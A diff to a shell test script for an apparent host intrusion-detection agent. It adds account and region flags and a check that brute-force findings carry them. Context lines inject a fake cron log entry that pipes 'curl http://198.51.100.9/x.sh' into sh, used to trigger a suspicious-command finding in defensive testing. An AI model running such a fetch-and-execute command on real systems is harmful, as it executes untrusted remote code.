@@ -39,7 +39,8 @@ PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); pr
 URL="http://127.0.0.1:$PORT"
 agent() {
 	timeout 60 "$M" agent --once --db "$ADB" --root "$R" --sample-ms 50 --host web-7 \
-		--instance-id i-0feedfacecafe0007 --server "$URL" --key-file "$T/key.env" \
+		--instance-id i-0feedfacecafe0007 --account-id 123456789012 --region eu-north-1 \
+		--server "$URL" --key-file "$T/key.env" \
 		--log "$R/var/log/secure" --log "$R/var/log/cron" "$@"
 }
 SPID=
@@ -100,6 +101,8 @@ expect finding_brute "$(types | uniq -c)" wait_type "UnauthorizedAccess:Runtime/
 expect finding_after_brute "$(types | uniq -c)" wait_type "InitialAccess:Runtime/SuccessfulLoginAfterBruteForce"
 expect finding_cron_download "$(types | uniq -c)" wait_type "Execution:Runtime/SuspiciousCommand"
 expect finding_on_instance "the host's instance" sh -c "'$M' findings list --db '$SDB' --format json | grep SSHBruteForce | grep -q i-0feedfacecafe0007"
+expect finding_names_account "the agent's --account-id and --region on the server" \
+	sh -c "'$M' findings list --db '$SDB' --format json | grep SSHBruteForce | grep '\"accountId\":\"123456789012\"' | grep -q '\"region\":\"eu-north-1\"'"
 sleep 1
 logtypes >"$T/types1"
 LINES1=$(shipped hostevents.jsonl | wc -l)
@@ -121,7 +124,7 @@ CNT=$("$M" findings list --db "$SDB" --format json | grep SSHBruteForce | grep -
 kill -9 $SPID; wait $SPID 2>/dev/null
 echo "Dec  5 23:10:01 ip-10-0-1-23 CROND[3400]: (git) CMD (curl -fsSL http://198.51.100.9/x.sh | sh)" >>"$R/var/log/cron"
 timeout 60 "$M" agent --db "$ADB" --root "$R" --sample-ms 50 --interval 30 --host web-7 \
-	--instance-id i-0feedfacecafe0007 \
+	--instance-id i-0feedfacecafe0007 --account-id 123456789012 --region eu-north-1 \
 	--server "$URL" --key-file "$T/key.env" --log "$R/var/log/secure" --log "$R/var/log/cron" \
 	2>"$T/daemon.err" &
 DPID=$!
